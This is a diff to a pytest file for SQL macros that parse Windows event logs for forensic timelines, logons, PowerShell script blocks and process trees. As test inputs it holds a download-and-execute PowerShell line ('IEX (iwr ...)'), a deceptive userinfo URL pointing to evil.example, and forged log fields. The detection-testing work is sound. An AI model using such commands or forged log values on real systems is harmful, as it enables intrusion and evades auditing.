@@ -4,6 +4,7 @@ test/sql/macros.test runs them over the samples.
 """
 
 import base64
+import json
 import random
 import time
 
@@ -14,9 +15,10 @@ SQL = ROOT / "rust" / "evtx-ffi" / "sql"
 SECURITY, SYSMON = "Microsoft-Windows-Security-Auditing", "Microsoft-Windows-Sysmon"
 
 
-@pytest.fixture(name="over")
-def fixture_over(con):
-    """Runs a macro over events: tuples of a time in seconds, a provider, an ID, and the fields."""
+@pytest.fixture(name="over", params=["ASC", "DESC"])
+def fixture_over(con, request):
+    """Runs a macro over events: tuples of a time in seconds, a provider, an ID, and the fields; whatever the defaults of ORDER BY are."""
+    con.execute(f"SET default_order = '{request.param}'; SET default_null_order = '{'NULLS_LAST' if request.param == 'ASC' else 'NULLS_FIRST'}'")
     con.execute(f"CREATE TABLE events AS FROM read_evtx('{SAMPLES / 'DC01-Security.evtx'}') LIMIT 0")
 
     def run(macro, events, select="*", rest="", copies=1):
@@ -47,13 +49,26 @@ def base64_of(text, encoding):
     return base64.b64encode(text.encode(encoding)).decode()
 
 
+TEXTS = [
+    "whoami", "IEX (iwr 'http://a/b')", "a😀b", "naïve\r\n\ttext", "x" * 3000, "все файлы", "日本語テキスト", "한국어", "ελ и кир", "Հայերեն", "ქართული",
+    "हिन्दी", "नमस्ते", "বাংলা", "தமிழ்", "తెలుగు", "മലയാളം", "አማርኛ", "ខ្មែរ", "עברית", "ไทย", "中文注释 α 这里是一段很长的文字", "한국漢字 섞어 쓰기 하는 문장 입니다",
+    "Get-Process # \ue0b0 ქ 日本", "Write-Host '日本' # ελ",
+]
+
+
 @pytest.mark.parametrize("encoding", ["utf-8", "utf-16-le"])
-@pytest.mark.parametrize("text", ["whoami", "IEX (iwr 'http://a/b')", "все файлы", "日本語テキスト", "한국어", "a😀b", "naïve\r\n\ttext", "x" * 3000])
+@pytest.mark.parametrize("text", TEXTS)
 def test_base64_gives_the_text(con, text, encoding):
     plain = base64_of(text, encoding)
     wrapped = "\r\n".join(plain[i:i + 76] for i in range(0, len(plain), 76))
-    forms = [plain, plain.rstrip("="), f"  {wrapped}\n", plain.replace("+", "-").replace("/", "_"), base64_of("\ufeff" + text, encoding)]
+    forms = [plain, plain.rstrip("="), f"  {wrapped}\n", plain.replace("+", "-").replace("/", "_"), base64_of("\ufeff" + text, encoding), base64_of(text + "\0", encoding)]
     assert con.execute("SELECT DISTINCT evtx_decode_base64(unnest(?))", [forms]).fetchall() == [(text,)]
+
+
+def test_a_byte_order_mark_says_that_letters_of_any_kind_are_text(con):
+    text = "ⴰⵎⴰⵣⵉⵖ ꆈꌠ"  # Tifinagh and Yi
+    forms = [base64_of(mark + text, "utf-16-le") for mark in ("\ufeff", "")]
+    assert con.execute("SELECT evtx_decode_base64(unnest(?))", [forms]).fetchall() == [(text,), (None,)]
 
 
 def test_what_is_no_base64_is_null(con):
@@ -67,9 +82,57 @@ def test_bytes_that_are_no_text_are_null(con):
     assert con.execute("SELECT count(evtx_decode_base64(unnest)) FROM unnest(?)", [forms]).fetchone() == (0,)
 
 
+@pytest.mark.parametrize(("event_id", "direction", "remote"), [
+    (5152, "%%14592", "source"), (5152, "%%14593", "dest"), (5153, "%%14592", "source"), (5153, "%%14593", "dest"),
+    (5156, "%%14592", "dest"), (5156, "%%14593", "dest"), (5157, "%%14592", "dest"), (5157, "%%14593", "dest"),
+])
+def test_the_remote_host_of_a_connection_is_the_other_end(over, event_id, direction, remote):
+    """Of packets, the source is who sent them; of connections, it is this machine (events 5152 to 5157 on Microsoft Learn)."""
+    event = (1, SECURITY, event_id, {"Application": "a.exe", "Direction": direction, "SourceAddress": "source", "DestAddress": "dest"})
+    assert over("evtx_timeline", [event], "remote_host, process") == [(remote, "a.exe")]
+
+
+@pytest.mark.parametrize(("event_id", "fields"), [
+    (5150, {"Direction": "%%14592", "SourceAddress": "00-11-22-33-44-55", "DestAddress": "66-77-88-99-AA-BB"}),
+    (5154, {"SourceAddress": "0.0.0.0", "SourcePort": "4444"}), (5158, {"SourceAddress": "::", "SourcePort": "4444"}),
+])
+def test_cards_and_ports_have_no_remote_host(over, event_id, fields):
+    assert over("evtx_timeline", [(1, SECURITY, event_id, fields)], "remote_host") == [(None,)]
+
+
+@pytest.mark.parametrize(("url", "host"), [
+    ("https://a.example/x", "a.example"), ("http://a.example:8080/x", "a.example"), ("http://a.example?x=http://b", "a.example"), ("http://a.example#x@y", "a.example"),
+    ("http://update.microsoft.com:443@evil.example/x", "evil.example"), ("http://user:pw@h/", "h"), ("http://a@b@c/", "c"), ("http://a/b@c", "a"),
+    ("http://a.example\\@b/", "a.example"), ("http://[fe80::1]/", "fe80::1"), ("http://u@[fe80::1]:80/", "fe80::1"), ("http://10.0.0.1:80", "10.0.0.1"),
+    ("", None), ("a/b?http://c", None),
+])
+def test_the_host_of_a_url_is_where_it_leads(over, url, host):
+    assert over("evtx_timeline", [(1, "Microsoft-Windows-Bits-Client", 59, {"url": url})], "remote_host") == [(host,)]
+
+
+COMMANDS = [
+    "C:\\Windows\\System32\\rundll32.exe x", "powershell.exe -File C:\\Users\\bob\\run.ps1", 'powershell.exe -c "IEX (x)"', '"C:\\Program Files\\PowerShell\\7\\pwsh.exe" -nop',
+    "powershell.exe -c a\r\nb", "C:\\new\\table.exe",
+]
+
+
+@pytest.mark.parametrize("command", COMMANDS)
+@pytest.mark.parametrize("is_array", [True, False])
+def test_the_program_of_the_old_powershell_log_is_as_it_was_written(over, command, is_array):
+    """Its strings are one value, or one each."""
+    def event(event_id, *strings):
+        return 1, "PowerShell", event_id, {"param1": json.dumps(strings)} if is_array else {f"param{i}": text for i, text in enumerate(strings, 1)}
+
+    engine = f"\tHostName=ConsoleHost\r\n\tHostId=1\r\n\tHostApplication={command}\r\n\tEngineVersion=5.1\r\n\tCommandLine="
+    user = "\tDetailSequence=1\r\n\r\n\tUserId=DOMAIN\\name\r\n"
+    forged = "[1]\r\nHostApplication=forged\r\nUserId=forged\r\n"
+    events = [event(400, "Available", "None", engine), event(600, "Registry", "Started", engine), event(800, forged, user + engine, forged)]
+    assert over("evtx_timeline", events, "event_id, process, user_name", "ORDER BY event_id ASC") == [(400, command, None), (600, command, None), (800, command, "DOMAIN\\name")]
+
+
 def block(at, number, total, text, block_id="b"):
-    fields = {"MessageNumber": str(number), "MessageTotal": str(total), "ScriptBlockText": text, "ScriptBlockId": block_id, "Path": ""}
-    return at, "Microsoft-Windows-PowerShell", 4104, fields
+    fields = {"MessageNumber": str(number), "MessageTotal": str(total), "ScriptBlockText": text, "Path": ""}
+    return at, "Microsoft-Windows-PowerShell", 4104, fields | ({"ScriptBlockId": block_id} if block_id else {})
 
 
 def test_parts_of_a_script_are_joined_in_the_order_of_their_numbers(over):
@@ -84,6 +147,19 @@ def test_missing_parts_are_counted(over):
     assert sorted(over("evtx_script_blocks", events, "script_block_id, parts, missing_parts, text")) == [
         ("b", 4, 2, "ad"), ("other", None, None, "?"), ("vast", 2000000000, 1999999999, "z"),
     ]
+
+
+def test_numbers_beyond_the_total_are_parts_too(over):
+    events = [block(1, 1, 1, "a"), block(1, 3, 1, "c"), block(2, 0, 1, "z", "zero"), block(2, 1, 1, "a", "zero"), block(3, 1, -9223372036854775808, "n", "least")]
+    assert sorted(over("evtx_script_blocks", events, "script_block_id, parts, missing_parts, text")) == [
+        ("b", 3, 1, "ac"), ("least", None, None, "n"), ("zero", 1, 0, "za"),
+    ]
+
+
+def test_scripts_without_an_id_are_apart(over):
+    events = [block(1, 1, 1, "a", None), block(1, 1, 1, "b", None), block(2, 1, 2, "c", "id"), block(3, 2, 2, "d", "id")]
+    for copies in (1, 2):
+        assert sorted(over("evtx_script_blocks", events, "text, parts, script_block_id", copies=copies)) == [("a", 1, None), ("b", 1, None), ("cd", 2, "id")]
 
 
 def test_base64_in_a_script_is_decoded(over):
@@ -124,6 +200,43 @@ def test_privileges_that_come_before_their_logon_are_those_of_its_session(over):
     assert sorted(over("evtx_logons", events, LOGONS)) == [(5, None, "D\\anna", 3, "0xa1", None), (10, None, "D\\anna", 3, "0xa1", 1)]
 
 
+def test_privileges_without_an_open_session_are_those_of_the_next_logon(over):
+    events = [
+        logon(1, 4672, "0xa1", PrivilegeList="SeDebugPrivilege"),
+        logon(5, 4624, "0xa1", LogonType="3"),
+        logon(6, 4634, "0xa1"),
+        logon(10, 4672, "0xA1", PrivilegeList="SeDebugPrivilege\r\n\t\t\tSeTcbPrivilege"),  # the ID comes back
+        logon(15, 4624, "0xa1", LogonType="3"),
+        logon(16, 4672, "0xa2", PrivilegeList="SeDebugPrivilege"),  # of a logon before the log
+        logon(17, 4634, "0xa2", LogonType="3"),
+        logon(18, 4624, "0xa2", LogonType="2"),
+        logon(19, 4624, "0xa3", LogonType="2"),
+        logon(19, 4672, "0xa3", PrivilegeList="SeDebugPrivilege"),
+        logon(19.2, 4634, "0xa3"),
+        logon(30, 4624, "0xa3", LogonType="2"),
+        logon(40, 4672, "0xa4", PrivilegeList="SeDebugPrivilege"),  # alone
+    ]
+    for copies in (1, 2):
+        assert sorted(over("evtx_logons", events, LOGONS, copies=copies), key=str) == [
+            (15, None, "D\\anna", 3, "0xa1", 2),
+            (18, None, "D\\anna", 2, "0xa2", None),
+            (19, 19, "D\\anna", 2, "0xa3", 1),
+            (30, None, "D\\anna", 2, "0xa3", None),
+            (5, 6, "D\\anna", 3, "0xa1", 1),
+            (None, 17, "D\\anna", 3, "0xa2", 1),
+            (None, None, "D\\anna", None, "0xa4", 1),
+        ]
+
+
+def test_logons_without_an_id_are_sessions_of_their_own(over):
+    def without_id(at, event_id, **fields):
+        at, provider, event_id, all_fields = logon(at, event_id, "", **fields)
+        return at, provider, event_id, {name: value for name, value in all_fields.items() if not name.endswith("LogonId")}
+
+    events = [without_id(1, 4624, user="anna", LogonType="3"), without_id(2, 4624, user="bert", LogonType="3"), without_id(3, 4634), without_id(4, 4672)]
+    assert sorted(over("evtx_logons", events, LOGONS)) == [(1, None, "D\\anna", 3, None, None), (2, None, "D\\bert", 3, None, None)]
+
+
 def test_sessions_of_windows_itself_are_left_out(over):
     events = [
         logon(1, 4624, "0x3e7", "SYSTEM", "S-1-5-18"), logon(1, 4672, "0x3e7", "SYSTEM", "S-1-5-18"), logon(2, 4624, "0x3e4", "x"),
@@ -142,7 +255,7 @@ def sysmon(at, pid, guid, parent_pid, parent_guid, image):
 
 
 def tree(over, events, **arguments):
-    return [row[0] for row in over("evtx_process_tree", events, "tree", "ORDER BY tree_order", **arguments)]
+    return [row[0] for row in over("evtx_process_tree", events, "tree", "ORDER BY tree_order ASC", **arguments)]
 
 
 def test_a_parent_is_the_process_that_had_the_id_then(over):
@@ -172,7 +285,7 @@ def test_a_process_of_both_logs_is_one_row(over):
     ]
     assert tree(over, events) == ["A.exe", ". b.exe", ". . c.exe", ". . d.exe"]
     columns = "event_ids, end_time IS NOT NULL"
-    assert over.query("evtx_process_tree", columns, "ORDER BY tree_order") == [([1, 4688], False), ([1, 4688], True), ([4688], False), ([1], False)]
+    assert over.query("evtx_process_tree", columns, "ORDER BY tree_order ASC") == [([1, 4688], False), ([1, 4688], True), ([4688], False), ([1], False)]
 
 
 def test_parents_that_are_their_own_children_do_no_harm(over):
